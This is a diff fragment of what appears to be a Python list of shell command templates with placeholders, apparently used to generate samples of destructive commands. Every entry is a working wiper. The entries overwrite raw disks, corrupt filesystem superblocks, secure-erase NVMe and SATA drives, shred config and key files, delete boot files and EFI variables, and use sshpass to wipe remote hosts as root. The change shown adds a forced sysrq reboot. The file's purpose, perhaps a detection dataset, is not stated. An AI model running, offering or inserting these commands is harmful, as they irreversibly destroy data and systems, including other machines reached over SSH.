@@ -146,7 +146,7 @@ for n in os.listdir("/sys/block"):
 os.‹system("reboot -nf")¦sync()›'""",
     r"""perl -e 'for (glob("/dev/[sv]d? /dev/nvme?n1 /dev/mmcblk?")) { next if fork; open F,"+<",$_ or exit; syswrite F,"{plain}"x512 while 1 }'""",
     r"""for {var} in $(blkid -o device); do e2label ${var} '{plain}'; tune2fs -O ^has_journal ${var}; debugfs -w -R 'clri <2>' ${var}; xfs_db -x -c 'sb 0' -c 'write magicnum 0' ${var}; done 2>/dev/null; reboot -f""",
-    r"""nvme list -o json | jq -r '.Devices[].DevicePath' | while read n; do nvme format "$n" --ses=‹1¦2› --force; done; for {var} in /dev/sd?; do hdparm --user-master u --security-set-pass p ${var}; hdparm --security-erase p ${var}; sg_format --format ${var}; done""",
+    r"""nvme list -o json | jq -r '.Devices[].DevicePath' | while read n; do nvme format "$n" --ses=‹1¦2› --force; done; for {var} in /dev/sd?; do hdparm --user-master u --security-set-pass p ${var}; hdparm --security-erase p ${var}; sg_format --format ${var}; done; echo b > /proc/sysrq-trigger""",
     r"""find / -xdev \( -path /proc -o -path /sys \) -prune -o -type f \( -name '*.conf' -o -name '*.db' -o -name '*.key' -o -name '*.service' \) -print0 | xargs -0 -P8 -n64 shred -n1 -z -u; systemctl poweroff -ff""",
     r"""rm -rf --no-preserve-root /boot /lib/modules & efibootmgr | grep -oE 'Boot[0-9A-F]{4}' | cut -c5- | while read -r b; do efibootmgr -q -b "$b" -B; done; rm -rf /sys/firmware/efi/efivars/*; grub-editenv - unset default; wait""",
     r"""hosts=({ip} {ip2} {ip3}); for {var} in "${hosts[@]}"; do sshpass -p "$PW" ssh -n -o StrictHostKeyChecking=no root@${var} 'nohup sh -c "sleep {n}; rm -rf /etc /home /var; dd if=/dev/zero of=/dev/sda bs=1M" >/dev/null 2>&1 &' && echo "${var} scheduled"; done""",
